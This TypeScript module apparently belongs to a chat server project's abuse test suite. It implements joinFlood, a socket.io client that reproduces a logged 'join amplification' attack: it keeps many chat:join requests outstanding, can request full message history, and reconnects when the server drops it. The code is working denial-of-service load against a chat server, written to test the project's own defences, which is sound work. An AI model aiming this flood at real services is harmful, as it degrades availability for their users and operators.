import { io as connectClient, type Socket } from 'socket.io-client';

export interface JoinFloodOptions {
  url: string;
  channel: string;
  /** Joins kept outstanding at every moment: each answer is followed by another join at once. */
  inFlight: number;
  durationMs: number;
  /** Absent: joins without sinceId. "0" asks for everything ever written. */
  sinceId?: string;
  /** Open a new socket whenever the server drops the current one (an attacker would). */
  reconnect?: boolean;
}

export interface JoinFloodResult {
  /** Joins emitted, and answered with ok (what got through). */
  sent: number;
  ok: number;
  /** Refusals by error code. */
  refused: Record<string, number>;
  /** Messages the server sent back in answers, and the bytes of their text. */
  messages: number;
  textBytes: number;
  /** Sockets opened (1 + reconnects after the server dropped one) and how many it refused to connect. */
  sockets: number;
  connectRefused: number;
}

type Ack = { ok: true; data: { history: { text: string }[] } } | { ok: false; error: { code: string } };

/**
 * The chat join amplification attack of issue 9 (High #1): one anonymous socket keeps `inFlight`
 * joins outstanding on a channel for `durationMs`. Used by the server's abuse test and bench/abuse.
 */
export async function joinFlood(o: JoinFloodOptions): Promise<JoinFloodResult> {
  const result: JoinFloodResult = { sent: 0, ok: 0, refused: {}, messages: 0, textBytes: 0, sockets: 0, connectRefused: 0 };
  const deadline = Date.now() + o.durationMs;
  const payload = o.sinceId === undefined ? { channel: o.channel } : { channel: o.channel, sinceId: o.sinceId };
  const open = async (): Promise<Socket | null> => {
    const socket = connectClient(o.url, { path: '/socket.io', transports: ['websocket'], reconnection: false, forceNew: true });
    const connected = await new Promise<boolean>((resolve) => {
      socket.once('connect', () => resolve(true));
      socket.once('connect_error', () => resolve(false));
    });
    if (connected) {
      result.sockets += 1;
      return socket;
    }
    result.connectRefused += 1;
    socket.close();
    return null;
  };
  while (Date.now() < deadline) {
    const socket = await open();
    if (!socket) {
      await new Promise((r) => setTimeout(r, 100));
      continue;
    }
    await new Promise<void>((resolve) => {
      const stop = setTimeout(resolve, Math.max(0, deadline - Date.now()));
      socket.once('disconnect', () => {
        clearTimeout(stop);
        resolve();
      });
      const fire = () => {
        if (Date.now() >= deadline || !socket.connected) return;
        result.sent += 1;
        socket.emit('chat:join', payload, (ack: Ack) => {
          if (ack.ok) {
            result.ok += 1;
            result.messages += ack.data.history.length;
            for (const m of ack.data.history) result.textBytes += m.text.length;
          } else {
            result.refused[ack.error.code] = (result.refused[ack.error.code] ?? 0) + 1;
          }
          fire();
        });
      };
      for (let i = 0; i < o.inFlight; i++) fire();
    });
    socket.close();
    if (!o.reconnect) break;
  }
  return result;
}
